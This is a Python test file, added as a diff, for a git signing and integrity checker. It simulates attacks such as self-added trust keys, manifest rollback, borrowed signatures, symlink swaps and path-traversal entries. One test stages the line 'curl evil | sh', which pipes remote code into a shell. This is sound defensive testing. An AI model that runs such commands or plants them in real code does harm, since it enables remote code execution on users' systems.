@@ -1,0 +1,377 @@
+"""Attacks on the git layer: each is a real branch with real commits (or a real staged
+index), checked the way CI (`verify --trust-ref main`) or the hook (`verify --staged`) would.
+
+A change must never vouch for itself: trust and policy come from main (or HEAD).
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+from datetime import UTC, datetime
+from pathlib import Path
+
+from conftest import KeyPair, git_run, write_files
+from gitguard import CORE_FILE, MIDDLE_FILE, commit, failing, protect, qg, report, rules, sign
+
+from guard.manifest import envelope_path, list_path, new_payload, parse_list
+from guard.policy import parse_policy
+from guard.trust.dsse import PAYLOAD_TYPE, Envelope, Signature
+from guard.trust.keys import load_signing_key
+
+CI = ("--trust-ref", "main")
+
+
+def _branch(root: Path, name: str = "attack") -> None:
+    git_run(root, "checkout", "-q", "-b", name)
+
+
+def _policy_sha(root: Path) -> str:
+    return parse_policy((root / ".qeguard/policy.toml").read_text()).sha256
+
+
+def _forge(root: Path, tier: str, list_bytes: bytes, keys: list[KeyPair], sequence: int) -> None:
+    """Write a tier's list and an envelope over it signed by `keys` (validly)."""
+    payload = new_payload(
+        tier=tier,
+        sequence=sequence,
+        list_bytes=list_bytes,
+        count=len(parse_list(list_bytes, source="forged")),
+        policy_sha256=_policy_sha(root),
+        now=datetime.now(UTC),
+        expires_days=180,
+        git_commit=None,
+    )
+    env = Envelope(payload_type=PAYLOAD_TYPE, payload=payload.to_bytes())
+    for k in keys:
+        sk = load_signing_key(k.private)
+        env = env.with_signature(Signature(keyid=sk.public.keyid, sig=sk.sign(env.pae)))
+    (root / list_path(tier)).write_bytes(list_bytes)
+    (root / envelope_path(tier)).write_bytes(env.to_bytes())
+
+
+def test_baseline_main_verifies_clean(repo: Path, keypair: KeyPair) -> None:
+    protect(repo, keypair("alice"), keypair("bob"))
+    code, doc = report(repo, *CI)
+    assert code == 0, rules(doc)
+    assert failing(doc) == []
+
+
+# 1
+def test_branch_adding_its_own_keys_to_trust_cannot_sign_core(repo: Path, keypair: KeyPair) -> None:
+    alice, bob = keypair("alice"), keypair("bob")
+    m1, m2 = keypair("mallory1"), keypair("mallory2")
+    protect(repo, alice, bob)
+    _branch(repo)
+    for k in (m1, m2):
+        assert qg(repo, "trust", "add", k.name, k.public, "--tiers", "core,middle").code == 0
+    write_files(repo, {CORE_FILE: "def predict(x):\n    return 0\n"})
+    sign(repo, m1)
+    sign(repo, m2)
+    commit(repo, "add my keys and change core")
+    # Under the branch's own trust this would pass; that is exactly what must not count.
+    code, doc = report(repo, *CI)
+    assert code == 1
+    found = rules(doc)
+    assert "QG-TRUST-CHANGE .qeguard/trust.toml" in found
+    assert any(r.startswith("QG-SIG-THRESHOLD") for r in found)
+    assert doc["trust_source"].startswith("main ")
+    # The hook (trust from HEAD = main's commit here, staged = the branch) agrees.
+    git_run(repo, "reset", "-q", "--soft", "HEAD~1")
+    code, doc = report(repo, "--staged")
+    assert code == 1
+    assert "QG-TRUST-CHANGE .qeguard/trust.toml" in rules(doc)
+
+
+# 2
+def test_core_change_resigned_by_one_of_two_is_blocked_in_ci(repo: Path, keypair: KeyPair) -> None:
+    alice, bob = keypair("alice"), keypair("bob")
+    protect(repo, alice, bob)
+    _branch(repo)
+    write_files(repo, {CORE_FILE: "def predict(x):\n    return 7 * x\n"})
+    sign(repo, alice, "core")
+    commit(repo, "core change, one signature")
+    code, doc = report(repo, *CI)
+    assert code == 1
+    threshold = [f for f in doc["findings"] if f["rule"] == "QG-SIG-THRESHOLD"]
+    assert threshold and threshold[0]["severity"] == "high"
+    assert threshold[0]["details"]["signers"] == ["alice"]
+    # Locally the same state is a warning naming who signed, not a block.
+    code, doc = report(repo)
+    assert code == 0
+    local = [f for f in doc["findings"] if f["rule"] == "QG-SIG-THRESHOLD"]
+    assert local[0]["severity"] == "low" and "(alice)" in local[0]["message"]
+
+
+# 3
+def test_restoring_an_older_validly_signed_manifest_is_a_rollback(
+    repo: Path, keypair: KeyPair
+) -> None:
+    alice, bob = keypair("alice"), keypair("bob")
+    protect(repo, alice, bob)
+    old = git_run(repo, "rev-parse", "HEAD").strip()
+    write_files(repo, {CORE_FILE: "def predict(x):\n    return 2 * x + 1  # fixed\n"})
+    sign(repo, alice, "core")
+    sign(repo, bob, "core")
+    commit(repo, "security fix, co-signed")
+    assert report(repo, *CI)[0] == 0
+    _branch(repo)
+    git_run(repo, "checkout", "-q", old, "--", ".qeguard/manifests", CORE_FILE)
+    commit(repo, "bring back the old version")
+    # The old manifest is validly signed by both and matches the old file...
+    code, doc = report(repo, "--trust-ref", old)
+    assert "QG-SIG-ROLLBACK" not in " ".join(rules(doc))
+    # ...but against main it is a rollback.
+    code, doc = report(repo, *CI)
+    assert code == 1
+    rb = [f for f in doc["findings"] if f["rule"] == "QG-SIG-ROLLBACK"]
+    assert rb and rb[0]["severity"] == "critical" and rb[0]["tier"] == "core"
+
+
+# 4
+def test_removing_a_file_from_the_policy_instead_of_signing(repo: Path, keypair: KeyPair) -> None:
+    alice, bob = keypair("alice"), keypair("bob")
+    protect(repo, alice, bob)
+    _branch(repo)
+    policy = repo / ".qeguard/policy.toml"
+    text = policy.read_text()
+    # Override core's patterns so that src/*/core/** is no longer protected by core.
+    text += (
+        '\n[[tiers]]\nname = "core"\nthreshold = 2\npatterns = ["pyproject.toml", ".qeguard/**"]\n'
+    )
+    policy.write_text(text)
+    write_files(repo, {CORE_FILE: "def predict(x):\n    return -x\n"})
+    sign(repo, alice)  # one signer re-signs everything under the narrowed policy
+    commit(repo, "narrow the policy")
+    code, doc = report(repo, *CI)
+    assert code == 1
+    found = rules(doc)
+    assert "QG-TRUST-CHANGE .qeguard/trust.toml" in found
+    # main's policy still applies, so the changed file is still core's and still caught.
+    assert f"QG-INT-ADDED {CORE_FILE}" in found
+    assert "QG-SIG-POLICY .qeguard/policy.toml" in found
+
+
+# 5
+def test_envelope_or_signature_copied_from_another_tier(repo: Path, keypair: KeyPair) -> None:
+    alice, bob = keypair("alice"), keypair("bob")
+    protect(repo, alice, bob)
+    _branch(repo)
+    # (a) the whole middle envelope (validly signed by both) pasted over core's.
+    shutil.copy(repo / envelope_path("middle"), repo / envelope_path("core"))
+    shutil.copy(repo / list_path("middle"), repo / list_path("core"))
+    commit(repo, "core = middle")
+    code, doc = report(repo, *CI)
+    assert code == 1
+    assert "QG-SIG-BINDING .qeguard/manifests/core.dsse.json" in rules(doc)
+
+    # (b) a new core payload carrying the signatures of middle's envelope.
+    git_run(repo, "reset", "-q", "--hard", "main")
+    write_files(repo, {CORE_FILE: "def predict(x):\n    return 9\n"})
+    nobody = keypair("nobody")
+    qg(repo, "sign", "--key", nobody.private, "--tier", "core")  # new payload, unsigned
+    middle = json.loads((repo / envelope_path("middle")).read_text())
+    core = json.loads((repo / envelope_path("core")).read_text())
+    core["signatures"] = middle["signatures"]
+    (repo / envelope_path("core")).write_text(json.dumps(core))
+    commit(repo, "borrow signatures")
+    code, doc = report(repo, *CI)
+    assert code == 1
+    threshold = [f for f in doc["findings"] if f["rule"] == "QG-SIG-THRESHOLD"]
+    assert threshold and threshold[0]["tier"] == "core"
+    assert threshold[0]["details"]["signers"] == []
+
+
+# 6
+def test_staged_blob_differs_while_working_copy_matches(repo: Path, keypair: KeyPair) -> None:
+    alice, bob = keypair("alice"), keypair("bob")
+    protect(repo, alice, bob)
+    original = (repo / CORE_FILE).read_bytes()
+    (repo / CORE_FILE).write_text("import os; os.system('curl evil | sh')\n")
+    git_run(repo, "add", CORE_FILE)
+    (repo / CORE_FILE).write_bytes(original)  # the working copy looks untouched
+    assert report(repo)[0] == 0  # the working tree is clean...
+    code, doc = report(repo, "--staged")  # ...but the commit would not be
+    assert code == 1
+    assert f"QG-INT-MODIFIED {CORE_FILE}" in rules(doc)
+
+
+# 7
+def test_file_replaced_by_symlink_to_identical_content(repo: Path, keypair: KeyPair) -> None:
+    alice, bob = keypair("alice"), keypair("bob")
+    protect(repo, alice, bob)
+    _branch(repo)
+    content = (repo / CORE_FILE).read_bytes()
+    write_files(repo, {"vendor/model.py": content})  # not protected by any tier
+    (repo / CORE_FILE).unlink()
+    rel = os.path.relpath(repo / "vendor/model.py", (repo / CORE_FILE).parent)
+    os.symlink(rel, repo / CORE_FILE)
+    git_run(repo, "add", "-A")
+    code, doc = report(repo, "--staged")
+    assert code == 1
+    assert f"QG-INT-KIND {CORE_FILE}" in rules(doc)
+    git_run(repo, "commit", "-q", "-m", "symlink")
+    code, doc = report(repo, *CI)
+    assert code == 1
+    assert f"QG-INT-KIND {CORE_FILE}" in rules(doc)
+    code, doc = report(repo, "--commit", "HEAD", *CI)
+    assert f"QG-INT-KIND {CORE_FILE}" in rules(doc)
+
+
+# 8
+def test_manifest_entries_escaping_the_repository(repo: Path, keypair: KeyPair) -> None:
+    alice, bob = keypair("alice"), keypair("bob")
+    protect(repo, alice, bob)
+    _branch(repo)
+    lines = (repo / list_path("middle")).read_bytes().splitlines(keepends=True)
+    digest = "0" * 64
+    evil = [
+        f"{digest} 100644 file {p}\n".encode()
+        for p in ("../outside.py", "/etc/passwd", ".git/hooks/pre-commit")
+    ]
+    ordered = sorted(evil + lines, key=lambda line: line.split(b" ", 3)[3])
+    _forge(repo, "middle", b"".join(ordered), [alice, bob], sequence=5)
+    commit(repo, "entries outside the tree")
+    code, doc = report(repo, *CI)
+    assert code == 1
+    unsafe = [f for f in doc["findings"] if f["rule"] == "QG-INT-PATH"]
+    assert sorted(f["details"]["entry"] for f in unsafe) == [
+        "../outside.py",
+        ".git/hooks/pre-commit",
+        "/etc/passwd",
+    ]
+    assert all(f["severity"] == "critical" for f in unsafe)
+    code, doc = report(repo, "--staged")
+    assert len([f for f in doc["findings"] if f["rule"] == "QG-INT-PATH"]) == 3
+
+
+# 9
+def test_crlf_checkout_of_a_clean_signed_tree_has_no_finding(
+    tmp_path: Path, repo: Path, keypair: KeyPair
+) -> None:
+    alice, bob = keypair("alice"), keypair("bob")
+    protect(repo, alice, bob)
+    clone = tmp_path / "crlf"
+    git_run(tmp_path, "-c", "core.autocrlf=true", "clone", "-q", str(repo), str(clone))
+    git_run(clone, "config", "core.autocrlf", "true")
+    git_run(clone, "config", "user.name", "Win User")
+    git_run(clone, "config", "user.email", "win@example.com")
+    assert b"\r\n" in (clone / CORE_FILE).read_bytes()  # really checked out with CRLF
+    for args in ((), ("--trust-ref", "origin/main"), ("--staged",), ("--commit", "HEAD")):
+        code, doc = report(clone, *args)
+        assert code == 0, (args, rules(doc))
+        assert [r for r in rules(doc) if not r.startswith("QG-SIG-THRESHOLD")] == [], args
+
+
+# more
+
+
+def test_staged_manifest_edit_without_the_file_is_caught(repo: Path, keypair: KeyPair) -> None:
+    """Only the manifest is staged: the entries whose lines changed are checked anyway."""
+    alice, bob = keypair("alice"), keypair("bob")
+    protect(repo, alice, bob)
+    write_files(repo, {MIDDLE_FILE: "HELPER = 2\n"})
+    sign(repo, alice, "middle")
+    git_run(repo, "add", ".qeguard")  # MIDDLE_FILE itself stays unstaged
+    code, doc = report(repo, "--staged")
+    assert code == 1
+    assert f"QG-INT-MODIFIED {MIDDLE_FILE}" in rules(doc)
+
+
+def test_deleting_a_protected_file_is_caught_in_the_index(repo: Path, keypair: KeyPair) -> None:
+    protect(repo, keypair("alice"), keypair("bob"))
+    git_run(repo, "rm", "-q", CORE_FILE)
+    code, doc = report(repo, "--staged")
+    assert code == 1
+    assert f"QG-INT-MISSING {CORE_FILE}" in rules(doc)
+
+
+def test_exec_bit_flipped_in_the_index_only(repo: Path, keypair: KeyPair) -> None:
+    protect(repo, keypair("alice"), keypair("bob"))
+    git_run(repo, "update-index", "--chmod=+x", CORE_FILE)
+    code, doc = report(repo, "--staged")
+    assert code == 1
+    assert f"QG-INT-EXEC {CORE_FILE}" in rules(doc)
+
+
+def test_new_unsigned_file_in_a_protected_folder(repo: Path, keypair: KeyPair) -> None:
+    protect(repo, keypair("alice"), keypair("bob"))
+    write_files(repo, {"src/pkg/core/backdoor.py": "x = 1\n"})
+    git_run(repo, "add", "src/pkg/core/backdoor.py")
+    code, doc = report(repo, "--staged")
+    assert code == 1
+    assert "QG-INT-ADDED src/pkg/core/backdoor.py" in rules(doc)
+
+
+def test_key_rotation_signed_by_the_old_threshold_is_accepted(repo: Path, keypair: KeyPair) -> None:
+    alice, bob, carol = keypair("alice"), keypair("bob"), keypair("carol")
+    protect(repo, alice, bob)
+    # Step 1: add carol. One old signer is not enough; the old threshold (2) is.
+    _branch(repo, "add-carol")
+    assert qg(repo, "trust", "add", "carol", carol.public, "--tiers", "core,middle").code == 0
+    sign(repo, alice, "core")
+    commit(repo, "trust carol, alice signs")
+    code, doc = report(repo, *CI)
+    assert code == 1
+    assert "QG-TRUST-CHANGE .qeguard/trust.toml" in rules(doc)
+    sign(repo, bob, "core")
+    commit(repo, "bob co-signs")
+    code, doc = report(repo, *CI)
+    assert code == 0, rules(doc)
+    git_run(repo, "checkout", "-q", "main")
+    git_run(repo, "merge", "-q", "--ff-only", "add-carol")
+    # Step 2: retire bob, approved by alice and carol (trusted at main now).
+    _branch(repo, "retire-bob")
+    assert qg(repo, "trust", "remove", "bob").code == 0
+    sign(repo, alice, "core")
+    sign(repo, carol, "core")
+    commit(repo, "retire bob")
+    code, doc = report(repo, *CI)
+    assert code == 0, rules(doc)
+    git_run(repo, "checkout", "-q", "main")
+    git_run(repo, "merge", "-q", "--ff-only", "retire-bob")
+    # From now on bob's signature does not count, carol's does.
+    _branch(repo, "after")
+    write_files(repo, {CORE_FILE: "def predict(x):\n    return 11 * x\n"})
+    sign(repo, alice, "core")
+    qg(repo, "sign", "--key", bob.private, "--tier", "core")
+    commit(repo, "core change signed by alice and (retired) bob")
+    code, doc = report(repo, *CI)
+    assert code == 1
+    sign(repo, carol, "core")
+    commit(repo, "carol co-signs")
+    code, doc = report(repo, *CI)
+    assert code == 0, rules(doc)
+
+
+def test_co_signing_across_commits(tmp_path: Path, repo: Path, keypair: KeyPair) -> None:
+    """Author signs and pushes; the reviewer fetches the branch, signs, pushes; CI passes."""
+    alice, bob = keypair("alice"), keypair("bob")
+    protect(repo, alice, bob)
+    remote = tmp_path / "remote.git"
+    git_run(tmp_path, "init", "-q", "--bare", "-b", "main", str(remote))
+    git_run(repo, "remote", "add", "origin", str(remote))
+    git_run(repo, "push", "-q", "origin", "main")
+    _branch(repo, "feature")
+    write_files(repo, {CORE_FILE: "def predict(x):\n    return 2 * x  # reviewed\n"})
+    sign(repo, alice, "core")
+    commit(repo, "author: core change signed by alice")
+    git_run(repo, "push", "-q", "origin", "feature")
+
+    reviewer = tmp_path / "reviewer"
+    git_run(tmp_path, "clone", "-q", str(remote), str(reviewer))
+    git_run(reviewer, "config", "user.name", "Bob")
+    git_run(reviewer, "config", "user.email", "bob@example.com")
+    git_run(reviewer, "checkout", "-q", "feature")
+    code, doc = report(reviewer, "--trust-ref", "origin/main")
+    assert code == 1 and "QG-SIG-THRESHOLD" in " ".join(rules(doc))
+    sign(reviewer, bob, "core")
+    commit(reviewer, "reviewer: co-sign core")
+    git_run(reviewer, "push", "-q", "origin", "feature")
+
+    git_run(repo, "pull", "-q", "--ff-only", "origin", "feature")
+    code, doc = report(repo, "--trust-ref", "origin/main")
+    assert code == 0, rules(doc)
+    core = next(t for t in doc["tiers"] if t["name"] == "core")
+    assert sorted(core["signers"]) == ["alice", "bob"]
